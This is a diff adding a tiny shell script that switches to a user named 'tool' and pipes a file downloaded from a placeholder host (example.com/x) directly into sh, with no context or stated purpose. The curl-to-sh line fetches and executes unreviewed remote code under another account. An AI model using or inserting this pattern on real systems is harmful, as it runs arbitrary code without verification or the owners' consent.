@@ -1,0 +1,5 @@
+#!/bin/sh
+{
+su - tool -c "curl -fsSL --proto '=https' --tlsv1.2 --connect-timeout 15 --max-time 600 --retry 3 https://example.com/x | sh"
+exit
+}
